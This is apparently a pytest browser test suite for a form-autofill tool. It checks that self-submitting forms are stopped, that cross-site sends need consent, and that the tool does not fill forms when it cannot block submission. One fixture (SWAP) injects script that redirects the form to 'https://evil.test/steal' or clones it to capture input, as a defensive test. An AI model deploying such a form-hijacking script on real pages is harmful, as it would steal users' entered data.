"""A form that sends itself while it is filled: nothing leaves, and the person is told."""

import pytest

pytestmark = pytest.mark.browser

ORDER_NO = "WZ20260711083012"


async def arrived(filler):
    """Return the POSTs that arrived, once one sent later by the page itself has arrived."""
    await filler.page.evaluate("fetch('/marker', { method: 'POST' }).then((r) => r.text())")
    return [path for path in filler.site.posts if path != "/marker"]


async def fill(filler, case):
    await filler.open(f"guard?case={case}")
    return await filler.apply(await filler.preview())


@pytest.mark.parametrize(
    "case",
    [
        "select_property",
        "change_submit",
        "input_submit",
        "request",
        "blur_submit",
        "blank",
        "frame",
        "base",
        "shadow_request",
        "shadow_submit",
        "shadow_closed",
        "shadow_own",
        "click",
    ],
)
async def test_a_form_that_sends_itself_is_stopped(filler, case):
    tabs = len(filler.context.pages)
    report = await fill(filler, case)
    assert report["stopped"] >= 1
    assert report["submitted"] is False
    assert all(field["ok"] for field in report["fields"]), report
    assert await arrived(filler) == []
    assert len(filler.context.pages) == tabs + 1


@pytest.mark.parametrize(
    ("case", "left"),
    [("select_attribute", {"问题类型"}), ("text_attribute", {"订单号"})],
)
async def test_a_field_whose_change_submits_is_left_to_the_user(filler, case, left):
    await filler.open(f"guard?case={case}")
    plan = await filler.preview()
    report = await filler.apply(plan)
    assert {row["label"] for row in plan["left"] if row["reason"] == "submits"} == left
    assert left.isdisjoint(field["label"] for field in report["fields"])
    assert await arrived(filler) == []


async def test_a_form_whose_every_change_submits_is_left_to_the_user(filler):
    await filler.open("guard?case=form_attribute")
    assert await filler.preview() == {"refused": "fill_no_form"}


async def test_a_form_that_sends_itself_a_little_later_is_stopped(filler):
    await fill(filler, "late")
    await filler.page.wait_for_function("window.tried")
    assert await arrived(filler) == []
    assert await filler.value("[name=o]") == ORDER_NO


async def test_undo_does_not_send_the_form_either(filler):
    await fill(filler, "undone")
    await filler.page.evaluate("window.armed = true")
    result = await filler.undo()
    assert result["restored"] == 3
    assert result["stopped"] >= 1
    assert await arrived(filler) == []


async def test_a_page_that_only_notes_a_step_in_its_history_is_not_stopped(filler):
    report = await fill(filler, "history")
    assert report["stopped"] == 0


@pytest.mark.parametrize("case", ["change_submit", "frame", "blank", "shadow_submit"])
async def test_the_user_can_send_the_filled_form(filler, case):
    await fill(filler, case)
    # Playwright's own click waits for the navigation that was stopped.
    box = await filler.page.evaluate(
        """() => {
            const place = document.querySelector("#place");
            const box = (place.shadowRoot ?? place).querySelector("button").getBoundingClientRect();
            return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
        }"""
    )
    async with filler.context.expect_event(
        "requestfinished", lambda one: one.url.endswith("/sent")
    ):
        await filler.page.mouse.click(**box)
    assert filler.site.posts == ["/sent"]


async def test_a_target_that_was_turned_off_is_put_back(filler):
    await fill(filler, "frame")
    await filler.page.keyboard.press("Shift")
    assert await filler.page.get_attribute("form", "target") == "sink"


@pytest.mark.parametrize(
    ("case", "address"),
    [("two", "a"), ("outside", "b"), ("button", "c"), ("clobbered", "d")],
)
async def test_wherever_a_field_is_sent_needs_consent(filler, case, address):
    await filler.open(f"spread?case={case}")
    plan = await filler.preview()
    assert plan["elsewhere"] == [f"https://elsewhere.test/{address}"]
    assert await filler.apply(plan) == {"refused": "fill_sends_elsewhere"}
    assert await filler.value("[name=o]") == ""


SWAP = """how => document.querySelector("form").addEventListener("input", () => {
    const form = document.querySelector("form");
    if (how === "action") { form.action = "https://evil.test/steal"; return; }
    const copy = form.cloneNode(true);
    if (how === "form") copy.action = "https://evil.test/steal";
    if (how === "password") for (const one of copy.querySelectorAll("input")) one.type = "password";
    copy.dataset.swapped = "";
    form.replaceWith(copy);
}, { once: true, capture: true })"""


@pytest.mark.parametrize("how", ["form", "action", "password"])
async def test_a_form_that_is_bent_while_it_is_filled_gets_nothing_more(filler, how):
    await filler.open("spread?case=plain")
    plan = await filler.preview()
    await filler.page.evaluate(SWAP, how)
    report = await filler.apply(plan)
    assert not all(field["ok"] for field in report["fields"])
    fields = "input" if how == "password" else "input, textarea"
    values = await filler.page.eval_on_selector_all(fields, "all => all.map(one => one.value)")
    # what was in the form when it was bent cannot be taken back
    assert len([value for value in values if value]) == 1


async def test_a_second_form_over_plain_http_gets_nothing(filler):
    await filler.open("spread?case=unsafe")
    assert await filler.preview() == {"refused": "fill_sends_unsafe"}


@pytest.mark.parametrize("case", ["stranger", "script"])
async def test_a_form_that_takes_no_field_or_sends_nowhere_is_no_reason_to_refuse(filler, case):
    await filler.open(f"spread?case={case}")
    plan = await filler.preview()
    assert plan["elsewhere"] == []
    assert all(field["ok"] for field in (await filler.apply(plan))["fields"])


async def test_an_inert_field_stays_empty(filler):
    await filler.open("spread?case=inert")
    await filler.apply(await filler.preview())
    assert await filler.value("[name=o]") == ""
    assert await filler.value("[name=d]") != ""


async def test_a_browser_in_which_no_form_can_be_stopped_fills_none(filler):
    await filler.open("spread?case=plain")
    old = "() => { delete globalThis.Navigation; }"
    run = f"tabId => chrome.scripting.executeScript({{ target: {{ tabId }}, func: {old} }})"
    await filler.worker.evaluate(run, filler.tab)
    assert await filler.preview() == {"refused": "fill_old_browser"}
